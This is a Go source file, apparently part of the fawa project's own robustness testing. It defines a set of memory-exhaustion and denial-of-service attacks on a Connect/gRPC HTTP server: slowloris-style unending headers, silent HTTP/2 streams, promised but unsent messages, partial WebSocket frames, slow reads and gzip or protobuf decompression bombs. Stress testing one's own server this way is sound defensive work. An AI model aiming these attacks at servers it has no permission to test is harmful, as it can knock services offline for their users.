// Copyright 2026 The fawa Authors
// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

const (
	greetClientStream = "/greet.v1.GreetService/GreetClientStream"
	messageBytesMax   = 4 << 20
	// streamsMax is what a server of ours lets a connection have open.
	streamsMax = 256
	// pauseAfterRefusal keeps an attacker that is refused from becoming one that only connects.
	pauseAfterRefusal = 20 * time.Millisecond
)

// memoryAttack makes a server hold what it can: each connection of the attacker is `sockets` of them, on each
// of which `strike` sends what it has; then it holds the socket until it is closed, and begins again.
type memoryAttack struct {
	sockets int
	strike  func(a *attacker, socket net.Conn) error
}

var memoryAttacks = map[string]memoryAttack{
	"promised-messages":       {1, promisedMessages},
	"promised-over-http1":     {9, promisedOverHTTP1},
	"half-messages":           {1, halfMessages},
	"half-websocket-messages": {30, halfWebSocketMessage},
	"idle-connections":        {120, idleConnection},
	"silent-streams":          {3, silentStreams},
	"silent-calls":            {3, silentCalls},
	"slow-downloads":          {60, slowDownload},
	"heads-without-end":       {20, headWithoutEnd},
	"unknown-fields":          {1, unary(unknownFields)},
	"unknown-groups":          {1, unary(unknownGroups)},
	"empty-messages":          {1, unary(emptyMessages)},
	"gzip-members":            {1, unary(gzipMembers)},
}

// remember makes all attacks of a kind until the end, from so many connections.
func (a *attacker) remember(attack memoryAttack, connections int) {
	var group sync.WaitGroup
	for range connections * attack.sockets {
		group.Go(func() {
			for time.Now().Before(a.end) {
				if err := a.strikeOnce(attack); err != nil {
					a.told(err.Error())
				}
				time.Sleep(min(pauseAfterRefusal, time.Until(a.end)))
			}
		})
	}
	group.Wait()
}

func (a *attacker) strikeOnce(attack memoryAttack) error {
	socket, err := net.DialTimeout("tcp", a.address, patience)
	if err != nil {
		return fmt.Errorf("not connected")
	}
	defer socket.Close()
	_ = socket.SetDeadline(a.end)
	a.mu.Lock()
	a.done++
	a.mu.Unlock()
	if err := attack.strike(a, socket); err != nil {
		return nil // refused while it was sending
	}
	_, _ = io.Copy(io.Discard, socket)
	return nil
}

func idleConnection(_ *attacker, socket net.Conn) error {
	_, err := preface(socket)
	return err
}

func openStreams(socket net.Conn, path string, count int) (*wire, error) {
	w, err := preface(socket)
	for i := 0; err == nil && i < count; i++ {
		_, err = w.open(path)
	}
	return w, err
}

func silentStreams(_ *attacker, socket net.Conn) error {
	_, err := openStreams(socket, greetClientStream, 250)
	return err
}

// silentCalls are of one message, which never comes.
func silentCalls(_ *attacker, socket net.Conn) error {
	_, err := openStreams(socket, sayHello, 250)
	return err
}

func promisedMessages(_ *attacker, socket net.Conn) error {
	w, err := openStreams(socket, greetClientStream, streamsMax)
	for i := uint32(0); err == nil && i < streamsMax; i++ {
		err = w.framer.WriteData(2*i+1, false, envelope(0, messageBytesMax-1, nil))
	}
	return err
}

func halfMessages(_ *attacker, socket net.Conn) error {
	const streams = 8
	w, err := openStreams(socket, greetClientStream, streams)
	part := make([]byte, 16_384)
	for i := uint32(0); err == nil && i < streams; i++ {
		err = w.framer.WriteData(2*i+1, false, envelope(0, messageBytesMax-1, nil))
		for sent := 0; err == nil && sent < messageBytesMax/2; sent += len(part) {
			err = w.framer.WriteData(2*i+1, false, part)
		}
	}
	return err
}

func promisedOverHTTP1(_ *attacker, socket net.Conn) error {
	_, err := fmt.Fprintf(socket, "POST %s HTTP/1.1\r\nhost: hostile\r\ncontent-type: application/connect+proto\r\n"+
		"transfer-encoding: chunked\r\n\r\n5\r\n%s\r\n", greetClientStream, envelope(0, messageBytesMax-1, nil))
	return err
}

func headWithoutEnd(_ *attacker, socket net.Conn) error {
	_, err := io.WriteString(socket, "GET / HTTP/1.1\r\nhost: hostile\r\n"+
		strings.Repeat("x-hostile: "+strings.Repeat("a", 500)+"\r\n", 60))
	return err
}

func halfWebSocketMessage(a *attacker, socket net.Conn) error {
	_, err := fmt.Fprintf(socket, "GET %s HTTP/1.1\r\nhost: hostile\r\nconnection: upgrade\r\nupgrade: websocket\r\n"+
		"sec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n", a.path)
	if err == nil {
		// A text that is not the last part, of 60,000 bytes, masked with zeros.
		_, err = socket.Write(append([]byte{0x01, 0xfe, 0xea, 0x60, 0, 0, 0, 0}, bytes.Repeat([]byte{'a'}, 60_000)...))
	}
	return err
}

// slowDownload asks for a file and reads nothing of it.
func slowDownload(a *attacker, socket net.Conn) error {
	_ = socket.(*net.TCPConn).SetReadBuffer(4096)
	_, err := fmt.Fprintf(socket, "GET %s HTTP/1.1\r\nhost: hostile\r\n\r\n", a.path)
	time.Sleep(time.Until(a.end))
	return err
}

// unary calls with one body as fast as it is answered.
func unary(body func() []byte) func(*attacker, net.Conn) error {
	packed := sync.OnceValue(body)
	return func(a *attacker, socket net.Conn) error {
		head := fmt.Sprintf("POST %s HTTP/1.1\r\nhost: hostile\r\ncontent-type: application/proto\r\n"+
			"content-encoding: gzip\r\ncontent-length: %d\r\nconnection: close\r\n\r\n", sayHello, len(packed()))
		if _, err := socket.Write(append([]byte(head), packed()...)); err != nil {
			return err
		}
		status := make([]byte, len("HTTP/1.1 200"))
		if _, err := io.ReadFull(socket, status); err == nil {
			a.told("status " + string(status[len("HTTP/1.1 "):]))
		}
		return nil
	}
}

func gzipped(plain []byte) []byte { return gzippedTimes(1, plain, gzip.DefaultCompression) }

// gzippedTimes compresses the same bytes so many times over, as one member.
func gzippedTimes(times int, plain []byte, level int) []byte {
	var small bytes.Buffer
	out, _ := gzip.NewWriterLevel(&small, level)
	for range times {
		_, _ = out.Write(plain)
	}
	_ = out.Close()
	return small.Bytes()
}

// unknownFields are as many fields of different numbers as a message may be long.
func unknownFields() []byte {
	var fields []byte
	for number := uint64(100_000); len(fields) < messageBytesMax-8; number++ {
		tag := number << 3
		for ; tag >= 0x80; tag >>= 7 {
			fields = append(fields, byte(tag)|0x80)
		}
		fields = append(fields, byte(tag), 0)
	}
	return gzipped(fields)
}

func unknownGroups() []byte {
	return gzipped(bytes.Repeat([]byte{0x13, 0x14}, messageBytesMax/2-8))
}

// emptyMessages are a request whose only field, a text, comes two million times.
func emptyMessages() []byte { return gzipped(bytes.Repeat([]byte{0x0a, 0x00}, messageBytesMax/2-8)) }

func gzipMembers() []byte { return bytes.Repeat(gzipped(nil), 20_000) }
